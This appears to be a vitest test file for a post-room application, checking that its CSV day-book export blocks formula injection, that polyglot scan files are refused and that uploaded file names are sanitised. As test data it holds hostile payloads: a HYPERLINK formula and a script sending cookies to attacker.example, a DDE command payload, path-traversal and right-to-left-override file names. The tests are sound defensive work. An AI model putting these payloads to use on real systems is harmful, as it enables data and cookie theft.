/**
 * The post room at its edges (issue 11): what a spreadsheet makes of the day book, hostile or
 * malformed scans and file names, and letters received on the day a case was logged (P-3.2).
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startTestDomain, type TestDomain } from '../domain/test-support';
import { JPEG, PDF, PNG, TIFF, zipArchive } from '../files/test-support/scan-files';
import { dayBookCsv } from './day-book-csv';

let t: TestDomain;
beforeEach(async () => {
  t = await startTestDomain('2026-11-25T11:00:00.000Z'); // Wednesday
});
afterEach(async () => {
  await t.close();
});

const sender = { name: 'Margaret Hale', addressLines: ['12 Milton Road', 'Manchester'], postcode: 'm1 1ae', country: 'GB' };

/** The cells of one CSV line as a spreadsheet would read them (quoted fields, doubled quotes). */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i += 1) {
    const char = line[i]!;
    if (quoted && char === '"' && line[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (char === '"') quoted = !quoted;
    else if (char === ',' && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  cells.push(cell);
  return cells;
}

describe('day book CSV: no cell can start a formula (OWASP CSV injection)', () => {
  const hostile = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)', '＝1+1', '＋1', '－1', '＠A1'];

  it.each(hostile)('a sender named %j reaches the CSV as text', async (name) => {
    await t.call('post.logIncoming', {
      receivedOn: '2026-11-24',
      sender: { ...sender, name },
      kind: 'not-a-complaint',
      routedTo: '=Accounts',
      summary: '+Invoice',
    });
    const csv = await t.call('post.dayBook', { from: '2026-11-24', to: '2026-11-24', format: 'csv' });
    const text = Buffer.from(csv.dataBase64, 'base64')
      .toString('utf8')
      .replace(/^\uFEFF/, '');
    const lines = text.split('\r\n').length > 1 ? text.split('\r\n') : text.split('\n');
    const row = cellsOf(lines[1]!);
    expect(row[2]).toBe(`'${name}`);
    expect(row[5]).toBe("'+Invoice → =Accounts");
    expect(lines[1]).toContain(`"'${name.replaceAll('"', '""')}"`);
    // What is shown on screen stays as typed.
    expect(csv.rows[0]?.party).toBe(name);
  });

  it.each([['\tTab'], ['\rReturn'], ['=1'], ['-1'], ['@x'], ['+1'], ['＝1']])('%j is prefixed with a quote and quoted', (value) => {
    const text = dayBookCsv(['A'], [[value]])
      .toString('utf8')
      .replace(/^\uFEFF/, '');
    expect(text.split('\n')[1]).toBe(`"'${value}"`);
  });

  it('ordinary cells are unchanged apart from quoting', () => {
    const text = dayBookCsv(['Sender'], [['Margaret Hale'], ['O\'Brien, "Jr"']])
      .toString('utf8')
      .replace(/^\uFEFF/, '');
    expect(text.split('\n').slice(1, 3)).toEqual(['"Margaret Hale"', '"O\'Brien, ""Jr"""']);
  });
});

const scan = (name: string, data: Buffer) => ({ name, mimeType: '', dataBase64: data.toString('base64') });
const newComplaint = { receivedOn: '2026-11-24', sender, kind: 'new-complaint', type: 'product', summary: 'Leaking bottle' } as const;

async function storedCounts() {
  const collections = (t.services.domain!.db as unknown as { collections: Record<string, { count(): { exec(): Promise<number> } }> }).collections;
  return {
    letters: (await t.call('post.list', {})).length,
    cases: await t.services.domain!.db.cases.count().exec(),
    files: await collections['files']!.count().exec(),
    chunks: await collections['fileChunks']!.count().exec(),
  };
}

describe('scans are checked as whole files: polyglots are refused', () => {
  const html = Buffer.from('<html><body><script>fetch("https://attacker.example/?c="+document.cookie)</script></body></html>\n');
  it.each([
    ['a PDF that is also a web page', 'letter.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), html, PDF.subarray(9)])],
    ['a PDF with a web page after its end', 'letter.pdf', Buffer.concat([PDF, html])],
    ['a PDF with no end marker', 'letter.pdf', PDF.subarray(0, PDF.length - 7)],
    ['a JPEG with a ZIP archive appended', 'photo.jpg', Buffer.concat([JPEG, zipArchive()])],
    ['a JPEG with a ZIP archive before its end marker', 'photo.jpg', Buffer.concat([JPEG.subarray(0, -2), zipArchive(), Buffer.from([0xff, 0xd9])])],
    ['a truncated JPEG', 'photo.jpg', JPEG.subarray(0, -2)],
    ['a PNG with data after IEND', 'scan.png', Buffer.concat([PNG, zipArchive()])],
    ['a PNG with no IEND', 'scan.png', PNG.subarray(0, -12)],
    ['a TIFF with a ZIP archive appended', 'fax.tif', Buffer.concat([TIFF, zipArchive()])],
    [
      'a PNG that carries a web page',
      'scan.png',
      Buffer.concat([PNG.subarray(0, 33), Buffer.from([0, 0, 0, html.length]), Buffer.from('tEXt'), html, Buffer.alloc(4), PNG.subarray(33)]),
    ],
  ])('%s is refused at the scan and nothing is saved', async (_label, name, data) => {
    const before = await storedCounts();
    const error = await t.fail('post.logIncoming', { ...newComplaint, scans: [scan(name, data)] });
    expect(error.code).toBe('VALIDATION_FAILED');
    expect(error.issues[0], JSON.stringify(error)).toMatchObject({ path: 'scans.0' });
    expect(error.issues[0]!.message).toContain(name);
    expect(await storedCounts()).toEqual(before);
  });

  it.each([
    ['PDF', PDF],
    ['JPEG', JPEG],
    ['PNG', PNG],
    ['TIFF', TIFF],
    ['PDF with trailing blank lines', Buffer.concat([PDF, Buffer.from('\r\n\n')])],
  ])('a whole %s is accepted', async (_label, data) => {
    const letter = await t.call('post.logIncoming', { ...newComplaint, scans: [scan('file', data)] });
    expect(Buffer.from((await t.call('post.file', { fileId: letter.files[0]!.id })).dataBase64, 'base64').equals(data)).toBe(true);
  });
});

describe('scan content must be well-formed base64', () => {
  const valid = PDF.toString('base64');
  it.each([
    ['a character outside base64', `${valid.slice(0, 20)}*${valid.slice(21)}`],
    ['spaces inside', `${valid.slice(0, 20)} ${valid.slice(20)}`],
    ['missing padding', valid.replace(/=+$/, '').slice(0, -1)],
    ['a data URL', `data:application/pdf;base64,${valid}`],
    ['URL-safe characters', valid.replaceAll('/', '_').replaceAll('+', '-').replace(/^./, '_')],
  ])('%s is refused at the field, not silently cut short', async (_label, dataBase64) => {
    const before = await storedCounts();
    const error = await t.fail('post.logIncoming', { ...newComplaint, scans: [{ name: 'letter.pdf', mimeType: 'application/pdf', dataBase64 }] });
    expect(error.code).toBe('VALIDATION_FAILED');
    expect(error.issues.map((issue) => issue.path)).toContain('scans.0.dataBase64');
    expect(error.issues.find((issue) => issue.path === 'scans.0.dataBase64')?.message).toMatch(/base64/i);
    expect(await storedCounts()).toEqual(before);
  });
});

describe('file names are cleaned where they are stored and where they are downloaded', () => {
  it.each([
    ['path components', '../../etc/letter.pdf', PDF, 'letter.pdf'],
    ['Windows path components', 'C:\\Users\\clerk\\..\\scan.png', PNG, 'scan.png'],
    ['a right-to-left override that disguises the extension', 'invoice\u202Efdp.exe', PDF, 'invoicefdp.exe.pdf'],
    ['NUL and other control characters', 'scan\u0000.png\u0007', PNG, 'scan.png'],
    ['an extension that does not match the content', 'photo.html', JPEG, 'photo.html.jpg'],
    ['a name that is only a path', '../..', TIFF, 'scan-1.tif'],
    ['a reserved Windows device name', 'CON.pdf', PDF, 'scan-1.pdf'],
    ['leading dots and trailing spaces', '...hidden.jpeg  ', JPEG, 'hidden.jpeg'],
  ])('%s', async (_label, name, data, expected) => {
    const letter = await t.call('post.logIncoming', { ...newComplaint, scans: [scan(name, data)] });
    expect(letter.files[0]?.name).toBe(expected);
    expect((await t.call('post.file', { fileId: letter.files[0]!.id })).name).toBe(expected);
  });

  it('a very long name is shortened and keeps its extension', async () => {
    const letter = await t.call('post.logIncoming', { ...newComplaint, scans: [scan(`${'ā'.repeat(240)}.pdf`, PDF)] });
    const name = letter.files[0]!.name;
    expect(name.length).toBeLessThanOrEqual(120);
    expect(name).toMatch(/^ā+\.pdf$/);
  });

  it('a stored record with a hostile name (e.g. from another device) is downloaded under a clean name', async () => {
    const letter = await t.call('post.logIncoming', { ...newComplaint, scans: [scan('letter.pdf', PDF)] });
    const files = (
      t.services.domain!.db as unknown as {
        collections: Record<string, { findOne(id: string): { exec(): Promise<{ incrementalPatch(patch: object): Promise<unknown> }> } }>;
      }
    ).collections['files']!;
    await (await files.findOne(letter.files[0]!.id).exec()).incrementalPatch({ name: '../../\u202Egpj.exe\u0000' });
    expect((await t.call('post.file', { fileId: letter.files[0]!.id })).name).toBe('gpj.exe.pdf');
  });
});
